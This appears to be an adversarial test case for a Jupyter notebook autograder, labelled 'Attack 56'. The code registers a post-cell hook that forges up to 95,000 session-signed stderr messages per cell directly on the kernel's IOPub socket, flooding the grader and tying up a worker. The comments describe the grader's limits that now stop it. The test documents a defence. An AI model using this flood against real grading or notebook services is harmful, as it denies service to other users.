# Attack 56, a flood spread over cells: a hook run after every cell sends up to 95,000 empty signed
# stderr streams straight from the kernel's IO thread (each signed with the session's key, a new id
# each), a little under the 100,000 messages one cell may send. No cell crossed max_messages, yet
# the grader decoded every message that reached it, and the kernel's queue dropped the rest with
# the cell's end: every cell was waited out (4 s) and cut, and the notebook held a worker for
# minutes. The notebook now stops at its fourth cut cell (max_output_cuts), or where its messages
# cross max_notebook_messages, before the first test: the solution's functions are never tested.
# Why: Centroid_init, Set, Update, K_Means, EM_step, EM: the notebook stops at its fourth cut cell
#   (or at its message budget), an ungraded cell before the first test cell.
# ruff: noqa
# fmt: off
### AFTER setup
import time as _t, threading as _th
_k = get_ipython().kernel
_s = _k.session
_pre = b'{"msg_type":"stream","username":"u","session":"' + _s.session.encode() + b'","date":"2020-01-01T00:00:00.000000Z","version":"5.3","msg_id":"flood-'
_md, _ct = b'{}', b'{"name":"stderr","text":""}'
_cnt = [0]


def _burst(parent, sent, done):
    sock = _k.iopub_thread.socket
    end = _t.time() + 0.05
    while _t.time() < end and sent[0] < 95_000:
        for _ in range(200):
            sent[0] += 1
            _cnt[0] += 1
            h = _pre + str(_cnt[0]).encode() + b'"}'
            a = _s.auth.copy()
            for part in (h, parent, _md, _ct):
                a.update(part)
            sock.send_multipart([b'stream.stderr', b'<IDS|MSG>', a.hexdigest().encode(), h, parent, _md, _ct])
    done.set()


def _flood(result=None):
    parent = _s.pack(_k.get_parent()['header'])
    sent, done = [0], _th.Event()
    stop = _t.time() + 15  # never longer, whatever the count
    while sent[0] < 95_000 and _t.time() < stop:
        done.clear()
        _k.iopub_thread.schedule(lambda: _burst(parent, sent, done))
        done.wait(1)


get_ipython().events.register("post_run_cell", _flood)
